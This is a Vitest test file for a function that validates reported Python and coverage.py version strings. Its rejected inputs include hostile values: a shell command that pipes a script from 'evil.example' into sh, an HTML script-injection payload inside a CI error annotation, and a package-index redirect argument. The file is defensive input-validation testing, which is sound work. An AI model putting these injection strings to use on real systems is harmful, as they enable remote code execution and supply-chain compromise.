// Versions a target reports choose the conversion's toolchain: only real versions are used.
import { describe, expect, it } from 'vitest';
import { checkedVersions } from '../../../src/harvest/versions.js';

describe('checkedVersions', () => {
  it.each([
    ['3.12.1', '7.6.1'],
    ['3.13.0rc2', '7.0.0b1'],
    ['3.14.0a1+', '6.5.0.post1'],
    ['3.8.20', '7.18.0.dev3'],
  ])('keeps Python %s and coverage.py %s', (python, coverage) => {
    expect(checkedVersions({ python, coverage }, 'pod a')).toEqual({
      versions: { python, coverage },
      warnings: [],
    });
  });

  it.each([
    ['7.17.4\n::error::PWN version <img src=x onerror=alert(1)> @PWN-user'],
    ['7.17.4 ; curl evil.example | sh'],
    ['==7.6.1'],
    ['7.6.1 --index-url https://evil.example'],
    [''],
  ])('ignores coverage.py %j with one warning', (coverage) => {
    const checked = checkedVersions({ python: '3.12.1', coverage }, 'pod a');
    expect(checked.versions).toEqual({ python: '3.12.1', coverage: null });
    expect(checked.warnings).toHaveLength(1);
    expect(checked.warnings[0]).toMatch(
      /^pod a reports coverage\.py version ".*", which is not a version; it is ignored for choosing the conversion's toolchain$/,
    );
    expect(checked.warnings[0]).not.toMatch(/[\r\n]/);
  });
});
